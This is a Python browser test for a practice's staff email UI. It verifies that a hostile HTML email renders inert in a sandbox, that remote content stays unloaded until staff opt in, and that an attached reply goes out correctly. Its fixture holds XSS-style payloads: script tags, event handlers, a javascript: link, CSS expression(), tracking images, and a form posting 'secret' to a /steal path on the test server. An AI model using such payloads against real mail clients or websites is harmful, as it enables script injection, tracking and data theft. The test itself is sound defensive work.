"""E-mail in the staff UI: a hostile HTML e-mail renders inert in its sandboxed frame, and fetches
nothing until staff ask for remote images; staff reply with an attached file from the composer."""

from __future__ import annotations

import asyncio
from email import message_from_bytes
from email.message import EmailMessage as Message
from email.policy import default as default_policy
from pathlib import Path
from typing import Any

from aiohttp import web

from tests.browser import chromium, signed_in_page
from tests.email_rig import PATIENT, emails, send_in, start_mail, wait_for
from tests.helpers import PASSWORD
from tests.ports import free_port

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def _hostile(remote: str) -> Message:
    m = Message()
    m["From"], m["To"], m["Subject"] = f"Pat Garcia <{PATIENT}>", "north@practice.test", "Forms"
    m["Message-ID"] = "<hostile@example.org>"
    m.set_content("Hello team (plain)")
    m.add_alternative(
        f"""<html><head><meta http-equiv="refresh" content="0;url={remote}/refresh">
<link rel="stylesheet" href="{remote}/style.css">
<style>@import url({remote}/import.css); body {{ background: url({remote}/bg.png) }}</style>
<script>console.log("pwned-script"); alert("pwned-script")</script></head>
<body onload="console.log('pwned-onload')">
<p>Hello <b id="greeting">team</b></p>
<img src="x" onerror="console.log('pwned-onerror')">
<svg onload="console.log('pwned-svg')"><circle r="5"/></svg>
<a id="js" href="javascript:console.log('pwned-link')">click me</a>
<div style="width: expression(alert('pwned-css')); background-image: url({remote}/css-bg.png)">styled</div>
<img src="{remote}/track.png" alt="tracker" width="1" height="1">
<iframe src="{remote}/frame"></iframe><object data="{remote}/object"></object>
<form action="{remote}/steal" method="post"><input name="q" value="secret"><button>Go</button></form>
</body></html>""",
        subtype="html",
    )
    return m


async def test_hostile_html_mail_is_inert_and_remote_images_wait_for_staff(
    db_settings: dict[str, Any], aiohttp_server: Any, tmp_path: Path
) -> None:
    hits: list[str] = []

    async def remote_handler(request: web.Request) -> web.Response:
        hits.append(request.path)
        return web.Response(body=b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", content_type="image/gif")

    remote_app = web.Application()
    remote_app.router.add_route("*", "/{tail:.*}", remote_handler)
    remote_server = await aiohttp_server(remote_app)
    remote = str(remote_server.make_url("")).rstrip("/")

    mail, relay_server = await start_mail(db_settings, aiohttp_server, tmp_path, port=free_port())
    try:
        await send_in(mail, _hostile(remote))
        [item] = await emails(mail)
        async with chromium() as browser:
            page = await signed_in_page(browser, mail.base, mail.practice.staff_a, PASSWORD)
            requests: list[str] = []
            console: list[str] = []
            page.on("request", lambda request: requests.append(request.url))
            page.on("console", lambda message: console.append(message.text))
            await page.click(f'li[data-conversation="{item.conversation_id}"]')
            frame = page.frame_locator('iframe[data-testid="email-html"]')
            await frame.locator("b", has_text="team").wait_for(timeout=5000)
            assert (
                await frame.locator(
                    "script, form, input, iframe, object, svg, link, meta[http-equiv]"
                ).count()
                == 0
            )
            await frame.locator("a", has_text="click me").click()  # its javascript: URL was removed
            await frame.locator("text=Go").click()
            await asyncio.sleep(0.5)  # time for anything that would load or run to do so
            remote_requests = [u for u in requests if u.startswith(remote)]
            assert remote_requests == [] and hits == [], (remote_requests, hits)
            assert [c for c in console if "pwned" in c] == []
            assert page.dialogs == [] and page.errors == []

            # Staff choose to see this message's pictures: the one remote image loads, nothing else.
            await page.get_by_test_id("load-remote-images").click()
            await wait_for(lambda: asyncio.sleep(0, "/track.png" in hits))
            await frame.locator("b", has_text="team").wait_for(timeout=5000)
            await asyncio.sleep(0.5)
            assert hits == ["/track.png"]
            assert [c for c in console if "pwned" in c] == [] and page.dialogs == [] and page.errors == []

            # A reply with a file chosen in the composer reaches the patient with the file.
            await page.get_by_label("Channel", exact=True).select_option("email")
            pdf = tmp_path / "consent form.pdf"
            pdf.write_bytes(PDF)
            await page.get_by_label("Attach files").set_input_files(str(pdf))
            await page.locator(".email-attach li", has_text="consent form.pdf").wait_for(timeout=2000)
            await page.fill("textarea[name=body]", "Please sign the attached form.")
            await page.click("form.composer button[type=submit]")
            await page.locator(".item.out .email-attachments a", has_text="consent form.pdf").wait_for(
                timeout=5000
            )
            await wait_for(lambda: asyncio.sleep(0, bool(mail.relay.received)))
            sent = message_from_bytes(mail.relay.received[0].content, policy=default_policy)
            assert [(a.get_filename(), a.get_content()) for a in sent.iter_attachments()] == [  # type: ignore[attr-defined]
                ("consent form.pdf", PDF)
            ]
            assert page.errors == []
    finally:
        relay_server.close()
